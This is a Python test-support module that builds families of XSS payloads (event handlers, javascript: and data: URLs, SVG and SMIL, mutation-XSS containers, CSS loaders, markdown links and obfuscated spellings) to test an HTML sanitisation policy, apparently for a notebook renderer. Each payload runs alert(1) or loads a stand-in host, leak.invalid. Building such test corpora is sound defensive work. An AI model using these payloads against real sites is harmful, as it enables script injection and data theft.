"""Hostile markup in families, generated from this project's own short lists (no published
payload list is copied): the ``corpus`` tier (tests/test_policy_families.py) and the browser
sample of tests/test_browser_findings.py.

:func:`families` writes every payload from two strings: ``js``, script that acts when it runs
(``alert(1)`` in process, a request to the test's recorder in the browser), and ``url``, an
address on another origin (fetched by the payloads that act by loading something). ``js`` must
hold no double quote, space or ``>``: it goes into double-quoted and unquoted attributes. The
names (``FAMILY/...``) are the same whatever ``js`` and ``url`` are.

The families: ``handler`` (elements x event handler attributes, each element with what makes it
load, fail or take focus), ``url`` (``javascript:``, ``data:``, ``vbscript:`` and plain URLs,
spelled in several ways, x every attribute that holds a URL), ``svg`` (SMIL, ``<use>``,
``<foreignObject>``, SVG scripts), ``mxss`` (raw-text, foreign-content and table containers x
markup that is text in one parse and elements in the next), ``css`` (loaders, legacy scripting
and overlays, in ``style`` attributes and blocks), ``markdown`` (link and image forms x
schemes), ``obfuscated`` (a few classic vectors x case, separator, entity and tag-soup
spellings) and ``attribute`` (values that look closed, names that look like handlers).
"""

from __future__ import annotations

import base64
import re
from urllib.parse import quote

JS, URL = "alert(1)", "https://leak.invalid/x"
"""The in-process ``js`` and ``url``."""

GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
PREFIX = {"animation": "<style>@keyframes xs{from{opacity:.9}to{opacity:1}}</style>",
          "transition": "<style>@starting-style{.xt{opacity:0}}.xt{transition:opacity 1ms}</style>"}

ELEMENTS = {  # name: (tag, attributes, content, wrapper); content None: a void element
    "img": ("img", "src=x", None, ""), "img-loaded": ("img", f"src={GIF}", None, ""),
    "svg": ("svg", "width=9 height=9", "", ""), "body": ("body", "", "x", ""), "iframe": ("iframe", "", "", ""),
    "video": ("video", "src=x", "", ""), "input": ("input", "", None, ""), "textarea": ("textarea", "", "x", ""),
    "details": ("details", "", "<summary>x</summary>x", ""), "div": ("div", "", "x", ""), "a": ("a", "href=#", "x", ""),
    "custom": ("x-x", "", "x", ""), "marquee": ("marquee", "", "x", ""), "object": ("object", "data=x", "", ""),
    "style": ("style", "", "", ""), "link": ("link", "rel=stylesheet href=x", None, ""),
    "script": ("script", "src=x", "", ""), "svg-animate": ("animate", "attributeName=x dur=1ms repeatCount=2", "", "svg"),
    "svg-image": ("image", "href=x width=9 height=9", "", "svg"), "math": ("math", "", "<mi>x</mi>", ""),
}
EVENTS = {  # name: attributes that make it fire without a person where anything can
    "onerror": "", "onload": "", "onloadstart": "", "oncanplay": "", "onfocus": "autofocus tabindex=1",
    "onfocusin": "autofocus tabindex=1", "onblur": "autofocus tabindex=1", "onanimationstart": 'style="animation:xs 1ms"',
    "onanimationend": 'style="animation:xs 1ms"', "onwebkitanimationstart": 'style="animation:xs 1ms"',
    "ontransitionrun": "class=xt", "ontoggle": "open", "onbeforetoggle": "open", "onbegin": "", "onend": "",
    "onrepeat": "", "oncontentvisibilityautostatechange": 'style="content-visibility:auto"',
    "onscroll": 'style="overflow:auto;height:9px"', "onpageshow": "", "onmouseover": "", "onpointerenter": "",
    "onclick": "", "oninput": "", "oninvalid": "required", "ondrag": "draggable=true",
    "onbeforematch": "hidden=until-found", "onplay": "autoplay", "onstart": "",
}
SCHEMES = {  # name: (js, url) -> a URL that runs js or loads url
    "javascript": lambda js, url: f"javascript:{js}",
    "javascript-case": lambda js, url: f"JaVaScRiPt:{js}",
    "javascript-tab": lambda js, url: f"java&#9;script:{js}",
    "javascript-control": lambda js, url: f"&#1; &#14;javascript:{js}",
    "javascript-entities": lambda js, url: f"{entities('javascript:', semicolon=False)}{js}",
    "javascript-colon": lambda js, url: f"javascript&colon;{js}",
    "javascript-percent": lambda js, url: f"javascript:{quote(js, safe='')}",
    "data-html": lambda js, url: f"data:text/html,<script>{js}</script>",
    "data-base64": lambda js, url: "data:text/html;base64," + b64(f"<script>{js}</script>"),
    "data-svg": lambda js, url: "data:image/svg+xml;base64," + b64(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script></svg>'),
    "data-js": lambda js, url: f"data:text/javascript,{js}",
    "vbscript": lambda js, url: "vbscript:msgbox(1)",
    "external": lambda js, url: url,
    "scheme-relative": lambda js, url: re.sub(r"^[a-z]+:", "", url),
}
PLACES = {  # name: markup around {v}, a URL
    "a-href": '<a href="{v}">x</a>', "area-href": '<map name=m><area shape=default href="{v}"></map>',
    "iframe-src": '<iframe src="{v}"></iframe>', "embed-src": '<embed src="{v}">',
    "object-data": '<object data="{v}"></object>', "form-action": '<form action="{v}"><button>x</button></form>',
    "button-formaction": '<form><button formaction="{v}">x</button></form>',
    "input-formaction": '<form><input type=image src=x formaction="{v}"></form>',
    "svg-a-xlink": '<svg><a xlink:href="{v}"><rect width=9 height=9></rect></a></svg>',
    "svg-a-href": '<svg><a href="{v}"><text y=9>x</text></a></svg>', "svg-use": '<svg><use href="{v}"></use></svg>',
    "svg-image": '<svg><image href="{v}" width=9 height=9></image></svg>',
    "math-href": '<math href="{v}"><mi>x</mi></math>', "img-src": '<img src="{v}">',
    "img-srcset": '<img srcset="{v} 1x">', "video-poster": '<video poster="{v}"></video>',
    "source-src": '<video autoplay><source src="{v}"></video>', "script-src": '<script src="{v}"></script>',
    "link-href": '<link rel=stylesheet href="{v}">', "table-background": '<table background="{v}"><td>x</td></table>',
    "input-image": '<input type=image src="{v}">', "a-ping": '<a href=#x ping="{v}">x</a>',
}
UNFORMATTED = {"base-href": '<base href="{v}">', "meta-refresh": '<meta http-equiv=refresh content="0;url={v}">'}
"""Places that would take the whole page away in a browser (only ever policed in process)."""

MXSS_CONTAINERS = {  # name: (opening markup, the element whose end tag the payload writes)
    "noscript": ("<noscript>", "noscript"), "noembed": ("<noembed>", "noembed"), "noframes": ("<noframes>", "noframes"),
    "xmp": ("<xmp>", "xmp"), "iframe": ("<iframe>", "iframe"), "textarea": ("<textarea>", "textarea"),
    "title": ("<title>", "title"), "style": ("<style>", "style"), "template": ("<template>", "template"),
    "plaintext": ("<plaintext>", "plaintext"), "math": ("<math>", "math"), "svg": ("<svg>", "svg"),
    "math-mtext": ("<math><mtext>", "mtext"), "math-mi": ("<math><mi>", "mi"),
    "math-annotation": ('<math><annotation-xml encoding="text/html">', "annotation-xml"),
    "svg-foreignobject": ("<svg><foreignObject>", "foreignObject"), "svg-desc": ("<svg><desc>", "desc"),
    "svg-title": ("<svg><title>", "title"), "table": ("<table>", "table"), "table-cell": ("<table><tr><td>", "td"),
    "select": ("<select>", "select"), "nested-form": ("<form><math><mtext></form><form><mglyph>", "form"),
    "svg-p": ("<svg></p>", "svg"),
}
MXSS_INNER = {  # name: markup after the container; {c}: its element
    "img": '<img src=x onerror="{js}">', "title-attribute": '<p title="</{c}><img src=x onerror={js}>">',
    "style": '<style><img src=x onerror="{js}"></style>', "style-end": '<style></{c}><img src=x onerror="{js}"></style>',
    "comment": '<!--</{c}><img src=x onerror="{js}">-->', "mglyph": '<table><mglyph><style><img src=x onerror="{js}">',
    "cdata": '<![CDATA[</{c}><img src=x onerror="{js}">]]>', "textarea": '<textarea></{c}><img src=x onerror="{js}">',
}
CSS_DECLARATIONS = {  # name: a declaration; {url}, {js}: single quotes at most
    "background-url": "background:url({url})", "background-quoted": "background-image:url('{url}')",
    "image-set": "background-image:image-set('{url}' 1x)", "list-style": "list-style:url({url})",
    "cursor": "cursor:url({url}),auto", "content": "content:url({url})", "border-image": "border-image:url({url}) 30",
    "mask": "mask-image:url({url})", "webkit-mask": "-webkit-mask-image:url({url})", "filter": "filter:url({url}#f)",
    "shape-outside": "float:left;shape-outside:url({url})", "escaped": "b\\61 ckground:u\\72 l({url})",
    "escaped-function": "background:\\75 rl({url})", "javascript-url": "background:url(javascript:{js})",
    "expression": "width:expression({js})", "behavior": "behavior:url({url})", "binding": "-moz-binding:url({url})",
    "overlay-fixed": "position:fixed;inset:0;z-index:2147483647;opacity:.01",
    "overlay-absolute": "position:absolute;left:-2000px;top:-2000px;width:9000px;height:9000px",
}
CSS_CONTEXTS = {
    "attribute": '<div style="{d}">x</div>', "block": "<style>.x-{n}{{{d}}}</style><div class=x-{n}>x</div>",
    "page-class": "<style>.jp-OutputArea-output{{{d}}}</style>x",
    "svg-attribute": '<svg><rect width=9 height=9 style="{d}"></rect></svg>',
    "svg-block": "<svg><style>rect{{{d}}}</style><rect width=9 height=9></rect></svg>",
}
CSS_RULES = {  # whole style blocks
    "import-url": "@import url({url});", "import-string": "@import '{url}';", "font-face":
    "@font-face{{font-family:f;src:url({url})}}b{{font-family:f}}", "namespace": "@namespace url({url});",
    "end-tag": "</style><img src=x onerror=\"{js}\">", "comment-end": "/*</style><img src=x onerror=\"{js}\">*/",
}
MARKDOWN_FORMS = {"inline": "[x]({v})", "inline-title": '[x]({v} "t")', "angle": "[x](<{v}>)",
                  "reference": "[x][r]\n\n[r]: {v}", "image": "![x]({v})", "autolink": "<{v}>"}
MARKDOWN_SCHEMES = {"javascript": "javascript:{js}", "upper": "JAVASCRIPT:{js}", "entity-colon": "javascript&#58;{js}",
                    "entity-letter": "&#106;avascript:{js}", "escaped-colon": "javascript\\:{js}",
                    "vbscript": "vbscript:msgbox(1)", "external": "{url}", "data": "data:text/html;base64,{b64}"}
MARKDOWN_MORE = {
    "html-inline": 'x <img src=x onerror="{js}"> y', "html-block": '<div>\n\n<img src=x onerror="{js}">\n\n</div>',
    "emphasis": '*<img src=x onerror="{js}">*', "alt-html": '![<img src=x onerror="{js}">](x)',
    "text-html": '[<img src=x onerror="{js}">](#x)', "title-break": '![x](x "a\\" onerror=\\"{js})',
    "code-span": '`<img src=x onerror="{js}">`', "fence": '```html\n<img src=x onerror="{js}">\n```',
    "table": '| a |\n|---|\n| <img src=x onerror="{js}"> |', "details": '<details open ontoggle="{js}">x</details>',
    "maths-href": "$\\href{{javascript:{js}}}{{x}}$", "maths-style": "$\\style{{background:url({url})}}{{x}}$",
}
OBFUSCATION_BASES = {
    "img": '<img src="x" onerror="{js}">', "svg-onload": '<svg onload="{js}">', "script": "<script>{js}</script>",
    "svg-script": "<svg><script>{js}</script></svg>", "iframe": '<iframe src="javascript:{js}"></iframe>',
    "a": '<a href="javascript:{js}">x</a>', "details": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "input": '<input autofocus onfocus="{js}">',
}
ATTRIBUTE_TRICKS = {  # name: markup; the decoys only look like a handler (a policy must not make one of them)
    "no-space": '<img src="x"onerror="{js}">', "spaced-equals": '<img src=x onerror = "{js}">',
    "newline-equals": '<img src=x onerror\n="{js}">', "duplicate": '<img src=x onerror="{js}" onerror="x">',
    "empty-name": '<img src=x ="" onerror="{js}">', "upper-name": '<img src=x ONERROR="{js}">',
    "backticks": "<img src=x onerror=`{js}`>", "quote-in-value": '<img alt=\'"\' src=x onerror="{js}">',
    "gt-in-value": '<x y=">"onload="{js}">', "gt-in-title": '<img title="a>" src=x onerror="{js}">',
    "self-closing": '<img src="x" title=\'\' onerror="{js}"/>', "formfeed": '<img src=x\x0conerror="{js}">',
    "entity-quotes": "<img src=x onerror=&#x22;{js}&#x22;>", "single-quotes": "<img src=x onerror='{js}'>",
    "decoy-entity-name": '<img src=x o&#110;error="{js}">', "decoy-nul-name": '<img src=x on\x00error="{js}">',
    "decoy-quotes-in-title": '<a title=\'x" onmouseover="{js}\'>x</a>',
    "decoy-escaped": '<div title="&quot;&gt;&lt;img src=x onerror={js}&gt;">x</div>',
    "decoy-empty-value": '<img src= onerror="{js}">', "decoy-slash-in-value": '<img src=x/onerror="{js}">',
    "decoy-unfinished": '<img src=x onerror="{js}"//', "decoy-mixed-quotes": '<img src="x\' onerror=\'{js}">',
}


def entities(text: str, *, hex: bool = False, semicolon: bool = True, pad: int = 0) -> str:
    """``text`` as numeric character references."""
    end = ";" if semicolon else ""
    return "".join(f"&#x{ord(c):0{pad}x}{end}" if hex else f"&#{ord(c):0{pad}d}{end}" for c in text)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _in_tags(markup: str, change) -> str:
    """``markup`` with ``change`` applied to the inside of each start tag (not its text)."""
    return re.sub(r"<[a-zA-Z][^>]*>", lambda m: change(m.group(0)), markup)


OBFUSCATIONS = {  # name: (markup, js) -> markup
    "plain": lambda m, js: m.format(js=js),
    "mixed-case": lambda m, js: re.sub(r"(?<=[<\s])([a-z]+)", lambda w: "".join(
        c.upper() if i % 2 else c for i, c in enumerate(w.group(1))), m).format(js=js),
    "slash": lambda m, js: _in_tags(m, lambda t: t.replace(" ", "/")).format(js=js),
    "newline": lambda m, js: _in_tags(m, lambda t: t.replace(" ", "\n")).format(js=js),
    "tab": lambda m, js: _in_tags(m, lambda t: t.replace(" ", "\t")).format(js=js),
    "formfeed": lambda m, js: _in_tags(m, lambda t: t.replace(" ", "\x0c")).format(js=js),
    "nul": lambda m, js: _in_tags(m, lambda t: t.replace(" ", " \x00 ")).format(js=js),
    "entities": lambda m, js: m.format(js=entities(js)),
    "entities-hex": lambda m, js: m.format(js=entities(js, hex=True, semicolon=False)),
    "entities-padded": lambda m, js: m.format(js=entities(js, pad=7)),
    "unclosed": lambda m, js: m.format(js=js)[:-1] + "<b>x</b>",
    "double-open": lambda m, js: "<" + m.format(js=js),
    "comment-before": lambda m, js: "<!--><!--->" + m.format(js=js),
    "bogus-before": lambda m, js: "<?x></x/><!x>" + m.format(js=js),
}


def families(js: str = JS, url: str = URL) -> dict[str, dict[str, str]]:
    """``{family: {name: markup}}``: every payload, its ``js`` and ``url`` as given."""
    handler = {}
    for element, (tag, attributes, content, wrapper) in ELEMENTS.items():
        for event, trigger in EVENTS.items():
            prefix = PREFIX["animation"] if "animation" in trigger else PREFIX["transition"] if "xt" in trigger else ""
            markup = "<" + " ".join(filter(None, (tag, attributes, trigger, f'{event}="{js}"'))) + ">"
            markup += "" if content is None else f"{content}</{tag}>"
            handler[f"handler/{element}/{event}"] = prefix + (f"<{wrapper}>{markup}</{wrapper}>" if wrapper else markup)
    urls = {f"url/{place}/{scheme}": markup.format(v=value(js, url))
            for place, markup in {**PLACES, **UNFORMATTED}.items() for scheme, value in SCHEMES.items()}
    urls |= {"url/srcdoc/escaped": f'<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
             "url/srcdoc/raw": f'<iframe srcdoc="<img src=x onerror=&quot;{js}&quot;>"></iframe>',
             "url/srcdoc/entities": f'<iframe srcdoc="{entities(f"<script>{js}</script>")}"></iframe>',
             "url/srcdoc/svg": f'<iframe srcdoc="<svg onload={js}>"></iframe>'}
    mxss = {f"mxss/{name}/{inner}": opening + markup.format(c=element, js=js)
            for name, (opening, element) in MXSS_CONTAINERS.items() for inner, markup in MXSS_INNER.items()}
    css = {f"css/{context}/{name}": markup.format(n=name, d=declaration.format(url=url, js=js))
           for context, markup in CSS_CONTEXTS.items() for name, declaration in CSS_DECLARATIONS.items()}
    css |= {f"css/{where}/{name}": wrap.format(rule.format(url=url, js=js))
            for where, wrap in (("style", "<style>{}</style><b>x</b>"), ("svg-style", "<svg><style>{}</style></svg>"))
            for name, rule in CSS_RULES.items()}
    markdown = {f"markdown/{form}/{scheme}": markup.format(v=value.format(js=js, url=url, b64=b64(
                    f"<script>{js}</script>")))
                for form, markup in MARKDOWN_FORMS.items() for scheme, value in MARKDOWN_SCHEMES.items()}
    markdown |= {f"markdown/{name}": markup.format(js=js, url=url) for name, markup in MARKDOWN_MORE.items()}
    obfuscated = {f"obfuscated/{base}/{name}": spell(markup, js)
                  for base, markup in OBFUSCATION_BASES.items() for name, spell in OBFUSCATIONS.items()}
    attribute = {f"attribute/{name}": markup.format(js=js) for name, markup in ATTRIBUTE_TRICKS.items()}
    return {"handler": handler, "url": urls, "svg": svg_family(js, url), "mxss": mxss, "css": css,
            "markdown": markdown, "obfuscated": obfuscated, "attribute": attribute}


SMIL = {"animate-values": '<animate attributeName="{a}" values="{v}" dur=1ms fill=freeze></animate>',
        "animate-to": '<animate attributeName="{a}" to="{v}" dur=1ms fill=freeze></animate>',
        "animate-from": '<animate attributeName="{a}" from="{v}" to="{v}" dur=1ms fill=freeze></animate>',
        "set": '<set attributeName="{a}" to="{v}"></set>'}
SMIL_HOSTS = {"a": '<a{x}><text y=9>x</text>{s}</a>', "image": '<image width=9 height=9{x}>{s}</image>',
              "use": '<use{x}>{s}</use>', "feimage": '<filter id=f><feImage{x}>{s}</feImage></filter>'}
SVG_MORE = {
    "script": "<svg><script>{js}</script></svg>", "script-entities": "<svg><script>{ejs}</script></svg>",
    "script-cdata": "<svg><script><![CDATA[{js}]]></script></svg>", "script-href": '<svg><script href="{url}"></script></svg>',
    "script-xlink": '<svg><script xlink:href="data:,{js}"></script></svg>',
    "script-type": '<svg><script type="text/ecmascript">{js}</script></svg>', "svg-onload": '<svg onload="{js}"></svg>',
    "g-onload": '<svg><g onload="{js}"></g></svg>', "image-onerror": '<svg><image href=x onerror="{js}"></image></svg>',
    "use-data": '<svg><use href="data:image/svg+xml;base64,{svg64}#x"></use></svg>',
    "use-external": '<svg><use href="{url}#x"></use></svg>', "feimage": '<svg><filter><feImage href="{url}"/></filter></svg>',
    "style-import": "<svg><style>@import url({url});</style></svg>", "handler": '<svg><handler type="text/javascript">'
    "{js}</handler></svg>", "listener": '<svg><listener event="load" handler="#h"></listener><handler id=h>{js}</handler></svg>',
    "a-animate-click": '<svg><a><animate attributeName=href values="javascript:{js}"/><text y=9>x</text></a></svg>',
    "iframe": '<svg><iframe src="javascript:{js}"></iframe></svg>', "math-in-svg": '<svg><math><img src=x onerror="{js}">',
    "font-face": '<svg><font-face-uri xlink:href="{url}"/></svg>', "xml-stylesheet": '<?xml-stylesheet href="{url}"?><svg/>',
    "animate-onbegin-math": '<math><svg><animate onbegin="{js}" attributeName=x dur=1ms></animate></svg></math>',
}


def svg_family(js: str, url: str) -> dict[str, str]:
    """SMIL (triggers, and animations that write a URL into ``href``), ``<use>``, ``<foreignObject>``,
    scripts."""
    out = {f"svg/{element}/{event}": f'<svg><{element} attributeName=x dur=1ms repeatCount=2 {event}="{js}">'
           f"</{element}></svg>" for element in ("animate", "set", "animateTransform", "animateMotion")
           for event in ("onbegin", "onend", "onrepeat")}
    for host, markup in SMIL_HOSTS.items():
        for attribute in ("href", "xlink:href"):
            for form, smil in SMIL.items():
                for kind, value in (("javascript", f"javascript:{js}"), ("external", url)):
                    out[f"svg/smil/{host}/{attribute}/{form}/{kind}"] = "<svg>" + markup.format(
                        x=" href=#" if host == "a" else "", s=smil.format(a=attribute, v=value)) + "</svg>"
    inner = {"img": f'<img src=x onerror="{js}">', "iframe": f'<iframe src="javascript:{js}"></iframe>',
             "script": f"<script>{js}</script>", "style": f"<style>@import url({url});</style>",
             "details": f'<details open ontoggle="{js}"></details>', "body": f'<body onload="{js}">'}
    out |= {f"svg/foreignobject/{name}": f"<svg><foreignObject width=9 height=9>{markup}</foreignObject></svg>"
            for name, markup in inner.items()}
    svg64 = b64(f'<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="{js}"/></svg>')
    out |= {f"svg/{name}": markup.format(js=js, url=url, ejs=entities(js), svg64=svg64)
            for name, markup in SVG_MORE.items()}
    return out


def payloads(js: str = JS, url: str = URL) -> dict[str, str]:
    """``{name: markup}`` of every family."""
    return {name: markup for family in families(js, url).values() for name, markup in family.items()}
